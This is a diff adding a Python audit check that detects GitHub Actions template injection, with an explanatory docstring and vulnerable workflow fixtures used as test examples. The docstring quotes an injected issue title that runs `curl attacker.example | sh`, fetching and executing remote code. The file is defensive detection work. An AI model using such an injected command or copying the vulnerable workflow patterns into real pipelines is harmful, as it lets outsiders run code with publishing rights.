@@ -1,0 +1,166 @@
+"""Somebody else's words are written into a script.
+
+`${{ }}` is replaced before the script runs: the value becomes part of its code.
+
+## Why it matters
+
+A title such as `"; curl attacker.example | sh; "` in `run: echo "${{ github.event.issue.title }}"`
+is not printed but run, with all rights of the job. In a release job these are the rights to
+publish. It is high where an outsider can set the value under an event that starts the job, and
+medium where it takes write access (inputs of a manual start, names of branches and tags, fields
+of a release): then it turns the right to push a tag into the right to publish.
+
+## How to fix
+
+Hand the value over as an environment variable, which the shell does not read as code:
+
+    - run: ./announce "$TAG"
+      env:
+        TAG: ${{ github.event.release.tag_name }}
+
+For `actions/github-script`, read `process.env.TAG` or `context.payload`. Names of the repository,
+numbers, commit ids and the results of comparisons cannot carry code and pass.
+
+## Deviations
+
+This row follows values further than zizmor's rule of the same name, and judges by who can set
+them: through variables (`env`), inputs of called workflows and composite actions, outputs of
+jobs and the matrix, and only under events that can reach the step. Outputs of steps, names of
+users, and inputs that are a choice, a number or a boolean are not reported.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from audits.check import Example, check
+from audits.checks.constants import GITHUB_SCRIPT_INJECTION, GITHUB_SECURE_USE
+from audits.model.expression import fences
+from audits.model.outcome import Area, Clean, Finding, Severity, Verdict
+from audits.model.place import Location, Scalar
+from audits.model.repository import Repository, StepSite
+from audits.model.taint import Taint, Tracer
+from audits.model.untrusted import Setter, code_of
+
+_WORKFLOW = """\
+on: %s
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: pypi
+    permissions: {id-token: write}
+    env:
+      NAME: ${{ github.head_ref }}
+    steps:
+      - %s
+      - uses: pypa/gh-action-pypi-publish@dc37677b2e1c63e2034f94d8a5b11f265b73ba33 # v1.14.2
+"""
+_ECHO = "run: echo '${{ %s }}'%s"
+_MARKED = "  # !"
+_RELEASE = "{release: {types: [published]}}"
+_CHOICE = "{workflow_dispatch: {inputs: {kind: {type: choice, options: [a, b]}}}}"
+_SCRIPT = (
+    "uses: actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd # v8.0.0\n"
+    "        with:\n          script: |\n            log('${{ github.event.issue.title }}')  # !"
+)
+_CALLED = """\
+on: {workflow_call: {inputs: {tag: {type: string}}}}
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo ${{ inputs.tag }}  # !
+      - uses: pypa/gh-action-pypi-publish@dc37677b2e1c63e2034f94d8a5b11f265b73ba33 # v1.14.2
+"""
+_CALLER = """\
+on: {release: {types: [published]}}
+jobs:
+  call:
+    uses: ./.github/workflows/publish.yml
+    with: {tag: '${{ github.event.release.tag_name }}'}
+"""
+
+
+@check(
+    area=Area.INTEGRITY,
+    severity=Severity.HIGH,
+    links=(GITHUB_SCRIPT_INJECTION, GITHUB_SECURE_USE),
+    any_workflow=True,
+    examples=(
+        Example(
+            name="the branch of a pull request",
+            workflow=_WORKFLOW % ("pull_request_target", _ECHO % ("github.head_ref", _MARKED)),
+            severity=Severity.HIGH,
+        ),
+        Example(
+            name="through a variable of the job",
+            workflow=_WORKFLOW % ("pull_request_target", _ECHO % ("env.NAME", _MARKED)),
+            severity=Severity.HIGH,
+        ),
+        Example(
+            name="an input that an action runs",
+            workflow=_WORKFLOW % ("[issues, release]", _SCRIPT),
+            severity=Severity.HIGH,
+        ),
+        Example(
+            name="the tag of a release",
+            workflow=_WORKFLOW % (_RELEASE, _ECHO % ("github.event.release.tag_name", _MARKED)),
+            severity=Severity.MEDIUM,
+        ),
+        Example(
+            name="an input, by way of a called workflow",
+            workflow=_CALLER,
+            files={".github/workflows/publish.yml": _CALLED},
+            severity=Severity.MEDIUM,
+        ),
+        Example(
+            name="a choice",
+            workflow=_WORKFLOW % (_CHOICE, _ECHO % ("inputs.kind", "")),
+        ),
+        Example(
+            name="a field that this event does not have",
+            workflow=_WORKFLOW % (_RELEASE, _ECHO % ("github.head_ref || env.NAME", "")),
+        ),
+        Example(
+            name="the repository's name, and a comparison",
+            workflow=_WORKFLOW
+            % ("push", _ECHO % ("github.repository }} ${{ github.ref == 'refs/heads/main'", "")),
+        ),
+        Example(
+            name="a variable that the shell reads",
+            workflow=_WORKFLOW
+            % (_RELEASE, 'run: echo "$TAG"\n        env:\n          TAG: ${{ github.ref_name }}'),
+        ),
+    ),
+)
+def template_injection(repo: Repository) -> Iterator[Verdict]:
+    """Judge every script, and every input that an action runs as code."""
+    for site in repo.steps():
+        for text in code_of(site.step):
+            found = _settable(repo, site, text)
+            for line, taint in found:
+                yield _finding(site, line, taint)
+            if not found:
+                yield Clean(at=site.step.at, job=site.job)
+
+
+def _settable(repo: Repository, site: StepSite, text: Scalar) -> list[tuple[int, Taint]]:
+    if not any(fences(text.value)):
+        return []
+    found: dict[tuple[int, str], Taint] = {}
+    for offset, taint in Tracer(repo, site).taints(text.value):
+        found.setdefault((text.line_at(offset), taint.context.name), taint)
+    return [(line, taint) for (line, _), taint in found.items()]
+
+
+def _finding(site: StepSite, line: int, taint: Taint) -> Finding:
+    by_anyone = taint.setter is Setter.OUTSIDER
+    who = "anyone" if by_anyone else "whoever can write to the repository"
+    return Finding(
+        message=f"`{taint.context.name}` becomes code, and {who} sets it (`{taint.event}`)",
+        at=Location(path=site.path, line=line),
+        job=site.job,
+        anchor=taint.context.name,
+        severity=None if by_anyone else Severity.MEDIUM,
+        because="" if by_anyone else "it takes write access to set the value",
+    )
